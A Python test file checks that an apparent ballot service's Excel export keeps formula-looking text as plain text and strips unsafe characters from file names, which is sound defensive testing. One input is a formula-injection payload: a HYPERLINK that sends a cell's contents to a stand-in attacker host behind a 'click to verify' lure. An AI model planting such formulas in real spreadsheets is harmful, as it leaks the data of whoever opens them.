"""Excel files the admin hands out: typed text never becomes a formula."""

import io

from openpyxl import load_workbook

from ballot_service.services import sheets


def test_text_that_looks_like_a_formula_stays_text():
    hostile = ['=HYPERLINK("http://evil.example/"&A3,"点此核实")', "+1+1", "-2", "@SUM(A1)", "正常文字"]
    workbook = load_workbook(io.BytesIO(sheets.one_sheet("测试", "测试", ["值", "数"], [40, 8],
                                                         [[v, 7] for v in hostile]).getvalue()))
    cells = [(row[0].value, row[0].data_type, row[1].value) for row in workbook["测试"].iter_rows(min_row=3)]
    assert [(v, t) for v, t, _ in cells] == [(v, "s") for v in hostile]
    assert all(n == 7 for _, _, n in cells)  # numbers stay numbers


def test_file_names_keep_the_round_name_and_drop_what_a_file_system_refuses():
    assert sheets.safe_name("2026年下半年（演示）") == "2026年下半年（演示）"
    assert sheets.safe_name('a/b:c*?"<>| d') == "a_b_c_d" and sheets.safe_name("///") == "评价轮次"
